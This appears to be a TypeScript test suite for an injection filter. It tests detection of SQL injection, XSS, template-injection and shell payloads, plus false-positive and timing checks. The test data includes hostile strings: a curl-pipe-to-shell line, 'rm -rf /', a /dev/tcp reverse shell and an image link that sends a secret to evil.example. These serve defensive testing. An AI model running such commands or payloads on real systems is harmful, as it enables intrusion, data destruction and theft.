// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { findInjections, INJECTION_KINDS, omitInjections } from './injection-rules.ts'

const attacks: Record<string, string[]> = {
  sql_injection: [
    'SELECT * FROM users; DROP TABLE users;--',
    "' OR 1=1 --",
    "admin' --",
    "x' OR 'a'='a",
    '1 UNION SELECT password FROM users',
    '1; DELETE FROM accounts',
    "'; EXEC xp_cmdshell('dir')",
    '1 AND pg_sleep(5)',
  ],
  markdown_xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '<iframe src="//evil">',
    '![x](https://evil.example/p?q=secret)',
  ],
  jinja_injection: [
    '{{ 7*7 }}',
    '{{config}}',
    '{% for x in y %}',
    ['$', '{7*7}'].join(''),
    '<%= 7*7 %>',
    ['$', '{T(java.lang.Runtime)}'].join(''),
  ],
  import_shells: [
    "import os; os.system('x')",
    "__import__('os')",
    "subprocess.run(['ls'])",
    "exec('x')",
    "require('child_process')",
    'curl http://x | sh',
    'rm -rf /',
    'bash -i >& /dev/tcp/10.0.0.1/80',
  ],
}
const harmless = [
  'hello',
  'You can use the SELECT statement to read rows, and DROP to remove a table.',
  'Select one of the options or leave it, and 1 = 1 is true.',
  'The union of workers selects its leaders.',
  'Costs are $5 {approx}; see https://example.org/?a=b.',
  'Import duties from China rose. The os is Linux.',
  'if a < b and c > d then stop',
  "It's fine - don't worry -- really.",
  'Set {1, 2} and {{}} are notations.',
  'Run the script on Monday.',
]

test('each kind of attack is found by its rule, and by no other kind asked for', () => {
  for (const [name, texts] of Object.entries(attacks)) {
    for (const text of texts)
      assert.ok(findInjections(text, INJECTION_KINDS).includes(name), `${name}: ${text}`)
  }
  assert.deepEqual(findInjections('<script>', ['sqli']), [])
})

test('escapes are read, and escaped markup is left alone', () => {
  for (const text of [
    '<a href="&#106;avascript:alert(1)">',
    '\\u003cscript\\u003e',
    'java\tscript:alert(1)',
    '<scr\u200bipt>',
  ])
    assert.deepEqual(findInjections(text, ['xss']), ['markdown_xss'], text)
  assert.deepEqual(findInjections('&lt;script&gt;', ['xss']), [])
  assert.equal(omitInjections('a \\u003cscript\\u003e b', ['xss']), 'a  b')
  assert.equal(omitInjections('\\u0041 &#66;', ['xss']), '\\u0041 &#66;')
})

test('ordinary sentences are left alone', () => {
  for (const text of harmless) assert.deepEqual(findInjections(text, INJECTION_KINDS), [], text)
})

test('what is omitted does not join to a new attack', () => {
  assert.equal(omitInjections('a <script>alert(1)</script> b', ['xss']), 'a alert(1) b')
  const nested = '<scr<script>ipt>alert(1)</scr</script>ipt>'
  assert.deepEqual(findInjections(omitInjections(nested, ['xss']), ['xss']), [])
  assert.deepEqual(findInjections(omitInjections('{{ {{ x }} }}', ['template']), ['template']), [])
})

test('hostile texts take linear time', () => {
  for (const piece of [
    '<',
    '<a ',
    "' or ",
    '{{',
    '{%',
    ';  ',
    'import ',
    ['$', '{'].join(''),
    '![',
    'a'.repeat(10),
    '<script ',
    "'--",
    '<a on',
    "'/**/",
    "' and x",
    '&#x3c;',
    '"-alert(',
    'style="expression',
    '<style>',
    'union/**/',
    ' onx="y',
  ]) {
    const text = piece.repeat(Math.ceil(1e5 / piece.length))
    const begun = performance.now()
    findInjections(text, INJECTION_KINDS)
    const took = performance.now() - begun
    assert.ok(took < 2000, `${piece} took ${took.toFixed(0)} ms`)
  }
})
